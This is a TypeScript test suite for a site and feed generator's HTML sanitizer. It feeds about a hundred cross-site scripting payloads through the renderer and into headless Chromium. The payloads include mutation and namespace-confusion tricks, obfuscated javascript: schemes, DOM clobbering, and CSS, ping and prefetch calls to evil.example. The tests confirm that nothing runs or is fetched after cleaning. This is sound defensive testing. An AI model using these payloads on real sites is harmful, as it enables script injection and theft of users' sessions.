import nodeFs, { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config/loadConfig.ts";
import { type CleanOptions, cleanTree } from "../../src/content/clean/cleanTree.ts";
import { serialize } from "../../src/content/html/serialize.ts";
import { createMarkdown } from "../../src/content/markdown/markdown.ts";
import { createContentRenderer } from "../../src/content/render.ts";
import type { Article } from "../../src/model/article.ts";
import { dialectNames } from "../../src/model/dialect.ts";
import { contentPath } from "../../src/model/text.ts";
import { buildOnce, temporaryFolder } from "../support/build.ts";
import { chromiumPath, launchChromium } from "../support/chromium.ts";
import { cleanHtml } from "../support/cleanHtml.ts";
import { testConfig } from "../support/config.ts";
import { dialectAttacks } from "../support/dialectAttacks.ts";

const call = "window.pwned=1";
const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onbegin",
  "onanimationstart",
  "onpointerenter",
  "onstart",
  "oncontentvisibilityautostatechange",
];
const elements = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "audio src=x",
  "iframe",
  "marquee",
  "math",
  "a href=x",
  "div style=animation:x",
  "object data=x",
  "table background=x",
  "select autofocus",
  "video><source src=x",
];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "jav&#x09;ascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "blob:",
  "view-source:javascript:",
];
const places = [
  "a href",
  "img src",
  "iframe src",
  "form action",
  "video poster",
  "object data",
  "embed src",
  "base href",
  "svg><a xlink:href",
  "math href",
  "math><maction xlink:href",
  "button formaction",
  "link rel=stylesheet href",
  "area href",
  "source src",
  "input type=image src",
];
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.CALL</script>'></foreignObject></svg>",
  "<template><script>CALL</script></template><xmp><img src=x onerror=CALL></xmp>",
  "<plaintext><img src=x onerror=CALL>",
  "<!--><img src=x onerror=CALL>-->",
  "<!-- --!><img src=x onerror=CALL> -->",
  "<![CDATA[<img src=x onerror=CALL>]]>",
  "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>",
  "<p style='background:url(http://evil.example/z)'>x</p>",
  "<link rel=stylesheet href=http://evil.example/s.css><meta http-equiv=refresh content='0;url=javascript:CALL'>",
  "<a id=document name=cookie href=x><form id=test><input name=attributes></form>",
  '<img src="x` `<script>CALL</script>"` `>',
  '<a href="x"onmouseover="CALL">y</a>',
  "<svg/onload=CALL>",
  "<<script>CALL//<</script>",
  "<script\u0000>CALL</script>",
  "<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>",
  "<title><style></title><img src=x onerror=CALL></style>",
  '<textarea><img title="</textarea><img src=x onerror=CALL>">',
  "<math><annotation-xml encoding='text/html'><img src=x onerror=CALL></annotation-xml></math>",
  "<table><td><select><svg><style><img src=x onerror=CALL>",
  "[x](javascript:CALL)",
  "![x](javascript:CALL)",
  "<javascript:CALL>",
  "[x]: javascript:CALL\n\n[x]",
  "[x](data:text/html,<script>CALL</script>)",
  // Namespaces: what is text in one is markup in another.
  "<noscript><style></noscript><img src=x onerror=CALL></style>",
  "<svg><style><img src=x onerror=CALL></style></svg>",
  "<svg><title><style></title><img src=x onerror=CALL></style></svg>",
  "<math><mi><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CALL&gt;'></mi></math>",
  "<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=CALL src=1>'></svg></math>",
  "<math><mtext><malignmark><style><a title='</style><img src=1 onerror=CALL>'></malignmark></mtext></math>",
  "<svg><foreignObject><p><svg><style><a id='</style><img src=1 onerror=CALL>'></svg></p></foreignObject></svg>",
  "<svg><desc><math><mi></desc><script>CALL</script></svg>",
  "<math><annotation-xml encoding='application/xhtml+xml'><svg><script>CALL</script></svg></annotation-xml></math>",
  "<form><div></form><form id=x><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=CALL src>'>",
  "<table><svg><style><td></style><img src=x onerror=CALL></table>",
  "<table><tr><td><math></td><mtext><style></tr></table><img src=x onerror=CALL></style>",
  "<select><template><style></template></select><img src=x onerror=CALL></style>",
  "<select><noscript></select><img src=x onerror=CALL></noscript>",
  "<xmp><p title='</xmp><img src=x onerror=CALL>'></xmp>",
  "<noembed><p title='</noembed><img src=x onerror=CALL>'></noembed><noframes><p title='</noframes><img src=x onerror=CALL>'>",
  "<iframe><p title='</iframe><img src=x onerror=CALL>'></iframe>",
  "<title><p title='</title><img src=x onerror=CALL>'></title>",
  "<listing>&lt;img src=x onerror=CALL&gt;</listing><pre>\n&lt;img src=x onerror=CALL&gt;</pre>",
  "<p id='</p><img src=x onerror=CALL>'><h1><h2><a><a><b><i></b></i>",
  // Comments and sections that end sooner or later than they look.
  "<!--><img src=x onerror=CALL>",
  "<!---><img src=x onerror=CALL>",
  "<!-- a --!><img src=x onerror=CALL> -->",
  "<!-- <!-- --> <img src=x onerror=CALL> -->",
  "<svg><![CDATA[><img src=x onerror=CALL>]]></svg>",
  "<math><![CDATA[</math><img src=x onerror=CALL>]]>",
  "<?php echo '<img src=x onerror=CALL>' ?><!ENTITY x '<img src=x onerror=CALL>'>",
  "]]><img src=x onerror=CALL><![CDATA[",
  // Addresses that act.
  "<svg><a xlink:href='javascript:CALL'><text>click</text></a></svg>",
  "<svg><animate xlink:href=#y attributeName=href values='javascript:CALL' /><a id=y><circle r=400 /></a></svg>",
  "<svg><set attributeName=onmouseover to='CALL' /></svg>",
  "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x'></svg>",
  "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22CALL%22/>'>",
  "<iframe srcdoc='&lt;img src=x onerror=parent.CALL&gt;' src='https://www.youtube.com/embed/x'></iframe>",
  "<object data='data:text/html,<script>parent.CALL</script>' type=text/html></object><embed src='javascript:CALL'>",
  "<button form=f formaction='javascript:CALL'>x</button><form id=f action='javascript:CALL'><input type=submit></form>",
  "<a href='https://site.example/' ping='http://evil.example/ping' target=_self>x</a>",
  "<a href='&#1;javascript:CALL'>x</a><a href='java&Tab;script:CALL'>y</a><a href='&#x6a&#x61vascript:CALL'>z</a>",
  "<a href='\u2028javascript:CALL'>x</a><a href='\u00a0javascript:CALL'>y</a><a href='feed:javascript:CALL'>z</a>",
  "<video><source onerror=CALL src=x></video><picture><source srcset='javascript:CALL'><img src='javascript:CALL'></picture>",
  "<img srcset='x 1x, javascript:CALL 2x, http://evil.example/a\"onerror=CALL 3x'>",
  // Styles that fetch or run.
  "<div style=\"background-image:url('javascript:CALL');width:expression(CALL);behavior:url(http://evil.example/x.htc)\">x</div>",
  "<style>@\\69mport url(http://evil.example/i.css);</style><div style='list-style:url(http://evil.example/l)'>x</div>",
  "<p style='x:\\22;background:url(http://evil.example/q)'>x</p><table background='http://evil.example/t'><td background='http://evil.example/u'>x</table>",
  "<link rel=prefetch href='http://evil.example/p'><link rel=dns-prefetch href=//evil.example><meta http-equiv=set-cookie content=x>",
  "<base href='http://evil.example/'><a href=x>x</a><img src=y>",
  // Names that stand in for what a page relies on.
  "<a name=getElementById id=getElementById href=#getElementById>x</a><img name=querySelector id=body><a href=#body>y</a>",
  "<a href=#currentScript>x</a><p id=currentScript>y</p><a href=#location>x</a><p id=location>y</p>",
  "<form name=body><input name=firstChild></form><iframe name=cookie src='https://www.youtube.com/embed/x'></iframe>",
  // What looks like something else.
  "<p>\u202ehtml\u202c <a href='https://evil.example/\u202egpj.exe'>x</a></p>",
  "<img alt='<x' title='/><img src=x onerror=CALL>' src=y>",
  "<a title='\u0022 onmouseover=CALL x=\u0022' href=x>x</a>",
  "<img src=`x`onerror=CALL``><img src='x'onerror='CALL'/**/>",
  "<a href=x\u000conmouseover=CALL>x</a><a\u0000 onclick=CALL>y</a><a/onclick=CALL/href=x>z</a>",
  "<details ontoggle=CALL open>x</details><dialog open onclose=CALL>y</dialog><p popover id=x onbeforetoggle=CALL>z</p>",
  "<p contenteditable autofocus onfocus=CALL tabindex=1>x</p><a accesskey=x onclick=CALL>y</a>",
  "<template shadowrootmode=open><img src=x onerror=CALL></template><slot onslotchange=CALL></slot>",
  "&lt;img src=x onerror=CALL&gt; &amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;",
  "`<img src=x onerror=CALL>` **<b onclick=CALL>b</b>** <http://evil.example/<script>CALL</script>>",
  "![x](y 'a\" onerror=\"CALL')",
  "[x](https://site.example 'a\" onmouseover=\"CALL')",
  '```js" onmouseover="CALL\ncode\n```',
  "[^1]\n\n[^1]: <img src=x onerror=CALL>",
  '# <img src=x onerror=CALL> {#x"onclick=CALL}',
  '{{< youtube "x\\" onload=CALL" >}} {{< figure src=\'x" onerror="CALL\' alt=\'"><img src=x onerror=CALL>\' >}} {% gist x/"onclick=CALL %}',
  "| <img src=x onerror=CALL> | a |\n|---|---|\n| <script>CALL</script> | b |",
].map((vector) => vector.replaceAll("CALL", call));

const vectors = [
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=${call}>`)),
  ...elements.flatMap((element) =>
    handlers.slice(0, 3).map((handler) => `<${element}/${handler.toUpperCase()}="${call}"//`),
  ),
  ...places.flatMap((place) => schemes.map((scheme) => `<${place}="${scheme}${call}">click</a>`)),
  ...mutations,
];

const article: Article = {
  path: contentPath("a.md"),
  url: "https://site.example/a/",
  slug: "a",
  section: "",
  translationKey: "a",
  visibility: "public",
  bodyOffset: 0,
  bodyLine: 1,
};
const options: CleanOptions = {
  article,
  site: { byPath: () => undefined, byName: () => [] },
  siteUrl: "https://site.example/",
  embeds: [],
  onUrl: () => {},
};
const clean = (html: string): string => cleanHtml(html, options);
const render = (vector: string): string =>
  serialize(cleanTree(createMarkdown()(vector, { ownUrl: article.url }), options)).trim();

describe("cleaning", () => {
  it("changes nothing when it is repeated", () => {
    for (const vector of vectors) {
      const once = render(vector);
      expect(clean(once)).toBe(once);
    }
  });
});

describe.skipIf(chromiumPath === undefined)("attacks in a real browser (skipped without Chromium)", () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser?.close());

  it(`runs nothing and fetches nothing it should not, for ${vectors.length} vectors`, async () => {
    const shown = await showAll(
      browser,
      vectors.map((vector) => [vector, render(vector)]),
    );
    expect(shown).toEqual({ found: [], fetched: [] });
  });

  it.each(dialectNames)("runs nothing and fetches nothing it should not, written in %s", async (dialect) => {
    const config = testConfig("/nowhere", { site: { url: "https://site.example/" } });
    const stage = createContentRenderer({ ...config, content: { ...config.content, dialect } }, nodeFs);
    const path = contentPath(dialect === "mdx" ? "a.mdx" : "a.md");
    const all = [...mutations, ...dialectAttacks.map((attack) => attack.replaceAll("CALL", call))];
    const contents: (readonly [string, string])[] = [];
    for (const vector of all) {
      const { value } = await stage.render({ ...article, path }, vector, options.site);
      contents.push([vector, value?.content?.value ?? ""]);
    }
    expect(await showAll(browser, contents)).toEqual({ found: [], fetched: [] });
  });

  it("notices what runs: without cleaning, the same attacks do", async () => {
    const shown = await showAll(
      browser,
      mutations.map((vector) => [vector, vector]),
    );
    expect(shown.found.length).toBeGreaterThan(20);
    expect(shown.fetched.length).toBeGreaterThan(2);
  });

  for (const format of ["rss", "atom", "json"] as const)
    it(`runs nothing in what a reader extracts from ${format}`, async () => {
      using folder = temporaryFolder();
      mkdirSync(join(folder.path, "content"));
      for (const [number, vector] of vectors.entries())
        writeFileSync(
          join(folder.path, "content", `${number}.md`),
          `---\ntitle: ${JSON.stringify(`${number} ${vector.replace(/[\p{Cc}\u2028]/gu, " ")}`)}\ndate: 2026-01-01\n---\n${vector}\n`,
        );
      const file = join(folder.path, "feedwright.config.json");
      const site = { url: "https://site.example/", title: "Attacks", language: "en" };
      writeFileSync(file, JSON.stringify({ site, feeds: [{ name: "main", limit: 0 }] }));
      const { value: config } = await loadConfig({ cwd: folder.path, file, flags: {} });
      if (config === undefined) throw new Error("no config");
      await buildOnce(config);
      const name = { rss: "rss.xml", atom: "atom.xml", json: "feed.json" }[format];
      const texts = await readTexts(browser, readFileSync(join(folder.path, "dist", name), "utf8"), format);
      // Of some, nothing is left.
      expect(texts.length).toBeGreaterThan(vectors.length / 2);
      const shown = await showAll(
        browser,
        texts.map((text) => [text.slice(0, 200), text]),
      );
      expect(shown).toEqual({ found: [], fetched: [] });
    });
});

/** The HTML in a document, as a browser's own parsers read it. */
async function readTexts(
  browser: Browser,
  document: string,
  format: "rss" | "atom" | "json",
): Promise<readonly string[]> {
  if (format === "json") {
    const { items } = JSON.parse(document) as { items: readonly { content_html?: string }[] };
    return items.flatMap(({ content_html: html }) => html ?? []);
  }
  const page = await browser.newPage();
  const texts = await page.evaluate((xml) => {
    const tree = new DOMParser().parseFromString(xml, "application/xml");
    const wanted = ["title", "description", "summary", "content", "encoded"];
    return [...tree.querySelectorAll("item > *, entry > *")].flatMap((node) => {
      if (!wanted.includes(node.localName)) return [];
      // A title that is said to be text is shown as text.
      const isText = node.localName === "title" && node.getAttribute("type") !== "html";
      return isText || node.getAttribute("type") === "text" ? [] : [node.textContent ?? ""];
    });
  }, document);
  await page.close();
  return texts;
}

/** Shows each HTML as a web reader does, pokes at all that is in it, and tells what ran and what was fetched from elsewhere. */
async function showAll(
  browser: Browser,
  contents: readonly (readonly [vector: string, html: string])[],
): Promise<{ readonly found: readonly string[]; readonly fetched: readonly string[] }> {
  const page = await browser.newPage();
  const fetched = new Set<string>();
  await page.route("**/*", async (route) => {
    const { hostname, protocol } = new URL(route.request().url());
    if (route.request().url() === "http://reader.example/")
      return await route.fulfill({ contentType: "text/html", body: "<!doctype html><main></main>" });
    // The addresses of the article itself, and of players that may stay.
    const isMeant = /^(?:(?:.*\.)?site\.example|www\.youtube(?:-nocookie)?\.com|i\.ytimg\.com)$/.test(hostname);
    if (protocol.startsWith("http") && !isMeant) fetched.add(route.request().url());
    return await route.abort();
  });
  await page.goto("http://reader.example/");
  const found = await page.evaluate(async (all) => {
    const ran: string[] = [];
    const state = window as unknown as { pwned?: number };
    const own = new Set(Object.getOwnPropertyNames(window));
    const acting = /^(?!https?:|mailto:|tel:|about:blank$|$)/;
    // Once: uncleaned names take the place of what `document` has.
    const main = document.querySelector("main");
    if (main === null) return ["no page"];
    for (const [vector, html] of all) {
      main.innerHTML = html;
      for (const element of main.querySelectorAll("*")) {
        for (const kind of ["mouseover", "focus", "error", "load", "toggle", "pointerenter", "click"])
          element.dispatchEvent(new Event(kind));
        if (element instanceof HTMLAnchorElement && /^(?:javascript|vbscript|data):/.test(element.protocol))
          ran.push(`link: ${vector}`);
        if (element instanceof HTMLIFrameElement && acting.test(element.src)) ran.push(`frame: ${vector}`);
        if (element.id !== "" && (element.id in document || own.has(element.id)))
          ran.push(`name ${element.id}: ${vector}`);
      }
      await new Promise((next) => setTimeout(next));
      if (state.pwned !== undefined) {
        ran.push(vector);
        delete state.pwned;
      }
    }
    return ran;
  }, contents);
  await page.close();
  return { found, fetched: [...fetched] };
}
